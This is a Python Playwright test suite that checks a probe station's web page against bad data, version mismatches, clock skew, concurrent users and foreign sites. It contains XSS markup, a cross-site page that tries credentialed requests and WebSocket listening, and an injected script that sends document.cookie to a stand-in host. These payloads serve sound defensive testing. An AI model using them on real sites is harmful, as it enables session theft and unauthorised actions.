"""What a page must bear: markup, large and empty boards, torn pictures, other versions, wrong clocks, strangers."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest

from tests.page.conftest import PageProcess, state_is
from tests.page.played import PlayedStation

pytestmark = pytest.mark.timeout(600)
MARKUP = '<img src=x onerror="window.struck=1"><script>window.struck=1</script>'
SHOWS = {
    "station": "#verdict", "history": "#history tbody tr", "alerts": "[data-alert]", "watches": "main table",
    "audit": "#audit tbody tr", "board": "svg[role=group] .point", "service": "#settings", "run": "#run-head",
    "plan": "#plan", "wall": ".wall-word",
}  # fmt: skip
"""Screen -> what is there once it has its facts."""
ALERT = {
    "name": "light_white", "group": "light", "what": MARKUP, "message": MARKUP, "severity": "serious", "figure": 1.0,
    "usual": None, "limit": 2.0, "unit": MARKUP, "rule": MARKUP, "since_touches": 1, "evidence": [MARKUP],
    "since_at": "2026-01-31T12:00:00+00:00", "advice": MARKUP, "raised_at": "2026-01-31T12:00:00+00:00",
    "updated_at": "2026-01-31T12:00:00+00:00",
    "acknowledged": {"by": MARKUP, "note": MARKUP, "at": "2026-01-31T12:00:00+00:00"},
}  # fmt: skip


def _complaints(tab: Any) -> list[str]:
    said: list[str] = []
    tab.on("pageerror", lambda error: said.append(str(error)))
    tab.on("console", lambda one: said.append(one.text) if one.type == "error" and "404" not in one.text else None)
    return said


def _open(tab: Any, screen: str, shows: str) -> None:
    tab.evaluate("screen => { location.hash = screen }", screen)
    tab.locator(shows).first.wait_for()


def _board(*points: dict[str, Any], width_um: float | None = 50_000.0) -> dict[str, Any]:
    return {"name": "demo", "side": "top", "width_um": width_um, "height_um": width_um, "test_points": list(points),
            "not_probeable": {}}  # fmt: skip


def _point(name: str, x_um: float, y_um: float) -> dict[str, Any]:
    return {"name": name, "kind": "site", "x_um": x_um, "y_um": y_um, "diameter_um": 400.0, "hole_um": None,
            "net": f"N_{name}"}  # fmt: skip


# --- what the station says ------------------------------------------------------------------------------------


def test_markup_in_names_and_notes_is_shown_as_it_was_written(station: PlayedStation, page: PageProcess) -> None:
    result = station.result | {"id": MARKUP, "test_point": MARKUP, "board_id": MARKUP, "outcome": MARKUP, "op": MARKUP}
    station.replies["history"] = {"results": [result], "more": False}
    station.replies["alerts"] = {"alerts": [], "standing": [ALERT], "healthy": False}
    board = _board(_point(MARKUP, 1000.0, 1000.0)) | {"not_probeable": {MARKUP: MARKUP}}
    station.lay(board)
    station.replies["marks"] = {"marks": [{"point": MARKUP, "mark": "forbidden", "reason": MARKUP, "by": MARKUP,
                                           "at": "2026-01-31T12:00:00+00:00"}]}  # fmt: skip
    station.replies["snapshot"] |= {"station": MARKUP, "fault": {"name": MARKUP, "message": MARKUP, "advice": MARKUP},
                                    "state": "fault"}  # fmt: skip
    station.ask_again()
    tab = page.tab("Lee")
    said = _complaints(tab)
    for screen, shows in SHOWS.items():
        _open(tab, screen, shows)
        assert tab.locator("main img, main script").count() == 0, screen
    _open(tab, "alerts", "[data-alert]")
    assert MARKUP in tab.locator("[data-alert]").inner_text()
    assert tab.evaluate("() => window.struck") is None
    assert said == []


def test_a_board_of_5000_points_is_drawn_found_in_and_flipped(station: PlayedStation, page: PageProcess) -> None:
    points = [_point(f"P{n}", 500.0 * (n % 100), 900.0 * (n // 100)) for n in range(5000)]
    station.lay(_board(*points))
    tab = page.tab("Kim")
    said = _complaints(tab)
    _open(tab, "board", "svg[role=group] .point")
    tab.wait_for_function("() => document.querySelectorAll('svg[role=group] .point').length === 5000")
    tab.fill("input[name=find]", "n_p4321")
    tab.keyboard.press("Enter")
    tab.wait_for_function("() => document.activeElement?.getAttribute('aria-label')?.startsWith('P4321,')")
    tab.get_by_role("button", name="Flip").click()
    assert tab.locator("svg[role=group] .point").count() == 5000
    assert said == []


@pytest.mark.parametrize("width_um", [None, 0.0])
def test_a_board_without_an_outline_shows_its_points(
    station: PlayedStation, page: PageProcess, width_um: float | None
) -> None:
    station.lay(_board(_point("A", 0.0, 0.0), _point("B", 9000.0, 4000.0), width_um=width_um))
    tab = page.tab("Eve")
    said = _complaints(tab)
    _open(tab, "board", "svg[role=group] .point[aria-label^='A,']")
    seen = tab.evaluate(
        "() => { const map = document.querySelector('svg[role=group]').getBoundingClientRect();"
        " return [...document.querySelectorAll('svg[role=group] .point')].map(node => node.getBoundingClientRect())"
        ".every(box => box.width > 0 && box.left >= map.left && box.right <= map.right && box.top >= map.top"
        " && box.bottom <= map.bottom) }"
    )
    assert seen
    assert said == []


@pytest.mark.parametrize("board", [{}, {"name": "", "test_points": []}, None], ids=str)
def test_no_board_and_an_empty_one_are_said_on_every_screen(
    station: PlayedStation, page: PageProcess, board: dict[str, Any] | None
) -> None:
    station.lay(board)
    tab = page.tab("Lee")
    said = _complaints(tab)
    state_is(tab, "READY")
    _open(tab, "board", "main section")
    tab.wait_for_function("() => document.body.textContent.includes('The station has no board file.')")
    for screen in ("point", "run", "plan", "teach", "station"):
        _open(tab, screen, "main section")
    assert said == []


def _older(station: PlayedStation) -> None:
    """What grew later is missing in every answer."""
    station.missing = {
        "snapshot": ("run", "contact", "board_revision", "links", "touches", "pictures"),
        "alerts": ("watches",),
    }


def _newer(station: PlayedStation) -> None:
    """Words that this page has never heard."""
    fault = {"code": 9999, "name": "gripper_lost", "message": "the gripper is gone", "advice": "fetch it", "detail": {}}
    station.replies["snapshot"] |= {
        "state": "fault",
        "fault": fault,
        "version": "9.9.9",
        "needle": {"place": "sideways"},
    }
    station.replies["history"] = {
        "results": [station.result | {"op": "grip", "outcome": "gripped", "new": {}}],
        "more": False,
    }


@pytest.mark.parametrize(("other", "shown"), [(_older, "READY"), (_newer, "FAULT")], ids=["older", "newer"])
def test_a_daemon_of_another_version_is_shown_as_far_as_it_is_understood(
    station: PlayedStation, page: PageProcess, other: Any, shown: str
) -> None:
    other(station)
    if shown == "READY":
        assert page.process is not None
        page.process.end()
        page.start()
    station.ask_again()
    tab = page.tab("Lee")
    said = _complaints(tab)
    state_is(tab, shown)
    station.say("gripper", change="lost", of={"deep": [1, 2]})
    for screen in ("station", "run", "board", "alerts", "watches", "history", "service", "wall"):
        _open(tab, screen, "main section, main table")
    if other is _newer:
        _open(tab, "station", "main section")
        assert "the gripper is gone" in tab.locator("main").inner_text()
        assert "fetch it" in tab.locator("main").inner_text()
    state_is(tab, shown)
    assert said == []


def test_one_that_speaks_otherwise_is_said_and_comes_back_by_itself(station: PlayedStation, page: PageProcess) -> None:
    tab = page.tab("Lee")
    state_is(tab, "READY")
    station.replies["snapshot"]["next_seq"] = "soon"
    station.ask_again()
    state_is(tab, "UNKNOWN")
    tab.wait_for_function(
        "() => document.getElementById('banner').textContent.includes('do not understand each other')"
    )
    assert tab.locator("button.order:visible:enabled").count() == 0
    del station.replies["snapshot"]["next_seq"]
    state_is(tab, "READY")


@pytest.mark.parametrize("minutes", [-10, 10])
def test_19_a_clock_that_is_wrong_makes_nothing_old_and_nothing_new(
    station: PlayedStation, page: PageProcess, minutes: int
) -> None:
    tab = page.tab("Kim")
    tab.clock.set_fixed_time(datetime.now(UTC) + timedelta(minutes=minutes))
    tab.reload()
    state_is(tab, "READY")
    station.say("result", **station.result | {"id": "first", "finished_at": station.now})
    tab.wait_for_function("() => document.getElementById('verdict')?.textContent.includes('TP7: Landed')")
    assert tab.locator("#banner").is_hidden()
    station.ahead = timedelta(minutes=-minutes)
    station.say("result", **station.result | {"id": "second", "test_point": "TP8", "finished_at": station.now})
    tab.wait_for_function("() => document.getElementById('verdict')?.textContent.includes('TP8: Landed')")
    assert tab.locator("#banner").is_hidden()
    station.silent = True
    state_is(tab, "UNKNOWN")
    station.silent = False
    state_is(tab, "READY")


# --- pictures -------------------------------------------------------------------------------------------------


def _jpeg(grey: int) -> bytes:
    return bytes(cv2.imencode(".jpg", np.full((60, 80), grey, np.uint8))[1])


def test_17_a_torn_picture_is_said_to_be_none_and_the_next_good_one_is_drawn(
    station: PlayedStation, page: PageProcess
) -> None:
    tab = page.tab("Eve")
    said = _complaints(tab)
    header = {"exposed_at": station.now, "width_px": 80, "height_px": 60, "state": "idle", "tip_px": None}
    drawn = "() => document.querySelector('canvas.live').getContext('2d').getImageData(40, 30, 1, 1).data[0] > 150"
    none = "() => document.querySelector('.old canvas.live') && document.body.textContent.includes('No picture')"
    shown = threading.Event()
    good = True

    def keep_showing() -> None:
        n = 0
        while not shown.wait(0.05):
            n += 1
            whole = _jpeg(200)
            station.show(whole if good else whole[: len(whole) // 3], n=n, **header)

    showing = threading.Thread(target=keep_showing)
    showing.start()
    try:
        tab.wait_for_function(drawn)
        good = False
        tab.wait_for_function(none)
        good = True
        tab.wait_for_function(f"() => !document.querySelector('.old canvas.live') && ({drawn})()")
    finally:
        shown.set()
        showing.join()
    tab.wait_for_function(none)  # none comes at all
    state_is(tab, "READY")
    assert said == []


def test_18_a_key_that_was_taken_back_is_said_with_its_cure(station: PlayedStation, page: PageProcess) -> None:
    tab = page.tab("Kim")
    state_is(tab, "READY")
    station.refusal = {"code": 1017, "name": "key_revoked", "message": "m", "advice": "a", "detail": {}}
    station.ask_again()
    state_is(tab, "UNKNOWN")
    tab.wait_for_function("() => document.getElementById('banner').textContent.includes('key was taken back')")
    assert tab.locator("button.order:visible:enabled").count() == 0
    station.refusal = None
    state_is(tab, "READY")


# --- people ---------------------------------------------------------------------------------------------------


def test_two_tabs_of_one_person_are_one_session(station: PlayedStation, page: PageProcess) -> None:
    first = page.tab("Kim")
    second = first.context.new_page()
    second.goto(page.url)
    for tab in (first, second):
        state_is(tab, "READY")
    second.locator("#log").click()
    for tab in (first, second):
        tab.wait_for_function("() => document.querySelectorAll('nav button').length === 0")
    assert "station-1" not in first.locator("body").inner_text()
    assert [one["op"] for one in station.asked if one.get("by") == "Kim"] == ["note", "note"]


def test_three_persons_who_press_at_once_are_all_heard(station: PlayedStation, page: PageProcess) -> None:
    # Who comes after the event has it from the snapshot
    station.replies["snapshot"] |= {"state": "look", "running": {"id": "j-1", "op": "look"}}
    station.say("state", state="look", was="triggered", event="accepted", job="j-1", fault=None)
    tabs = {name: page.tab(name) for name in ("Kim", "Kai", "Lee")}
    for tab in tabs.values():
        tab.locator("#stop:enabled").wait_for()
    for tab in tabs.values():
        tab.evaluate("() => { document.getElementById('stop').click() }")
    for tab in tabs.values():
        tab.wait_for_function("async () => (await fetch('/me')).ok")
    _until(tabs["Lee"], lambda: sorted(one["by"] for one in station.asked if one["op"] == "cancel") == sorted(tabs))


def _until(tab: Any, holds: Any) -> None:
    while not holds():  # the test's own time-out ends it
        tab.wait_for_timeout(20)


# --- strangers ------------------------------------------------------------------------------------------------

STRANGE = """<!doctype html><body><iframe id="frame" src="{url}"></iframe><script>
window.told = {{}};
const socket = new WebSocket("{socket}live");
socket.onmessage = (event) => {{ window.told.heard = event.data }};
socket.onclose = () => {{ window.told.closed = true }};
const order = (options) =>
  fetch("{url}order", {{ method: "POST", credentials: "include", body: '{{"order": "stop"}}', ...options }});
const tries = [order({{ mode: "no-cors" }}), order({{ headers: {{ "X-Token": "x" }} }}),
  fetch("{url}history", {{ credentials: "include" }})];
Promise.allSettled(tries).then((ends) => {{
  window.told.ends = ends.map((end) => end.status === "fulfilled" ? end.value.type : "refused");
}});
</script>"""


@pytest.fixture
def stranger(page: PageProcess, tmp_path: Path) -> Iterator[str]:
    """A site of somebody else on this computer."""
    folder = tmp_path / "stranger"
    folder.mkdir()
    (folder / "index.html").write_text(STRANGE.format(url=page.url, socket=page.url.replace("http", "ws")))
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Silent, directory=str(folder)))
    serving = threading.Thread(target=server.serve_forever)
    serving.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()
        serving.join()


class _Silent(SimpleHTTPRequestHandler):
    def log_message(self, *_args: Any) -> None:
        """Say nothing."""


def test_12_another_site_in_the_same_browser_hears_nothing_and_orders_nothing(
    station: PlayedStation, page: PageProcess, stranger: str
) -> None:
    tab = page.tab("Lee")
    state_is(tab, "READY")
    other = tab.context.new_page()
    other.goto(stranger)
    other.wait_for_function("() => window.told.closed && window.told.ends")
    told = other.evaluate("() => window.told")
    assert told["ends"] == ["refused"] * 3
    assert "heard" not in told
    frame = other.locator("#frame").element_handle().content_frame()
    assert frame is None or frame.locator("#tile").count() == 0
    assert [one["op"] for one in station.asked if one["op"] in ("cancel", "home", "reset")] == []


INTRUDER = """() => {
  window.refused = [];
  addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
  const add = (tag, facts) => {
    const node = Object.assign(document.createElement(tag), facts);
    document.body.append(node);
    return node;
  };
  add("script", { textContent: "window.struck = 1" });
  add("script", { src: "http://127.0.0.1:9/x.js" });
  const on = add("div", {});
  on.setAttribute("onclick", "window.struck = 1");
  on.click();
  add("img", { src: "http://127.0.0.1:9/" + document.cookie });
  add("form", { action: "http://127.0.0.1:9/", method: "post" }).submit();
}"""


def test_12_a_script_that_got_into_the_page_is_not_run(station: PlayedStation, page: PageProcess) -> None:
    tab = page.tab("Lee")
    state_is(tab, "READY")
    tab.evaluate(INTRUDER)
    tab.wait_for_function("() => window.refused.length >= 5")
    assert tab.evaluate("() => window.struck") is None
    assert tab.evaluate("() => document.cookie") == ""
    assert set(tab.evaluate("() => window.refused")) == {
        "script-src-elem", "script-src-attr", "img-src", "form-action"
    }  # fmt: skip
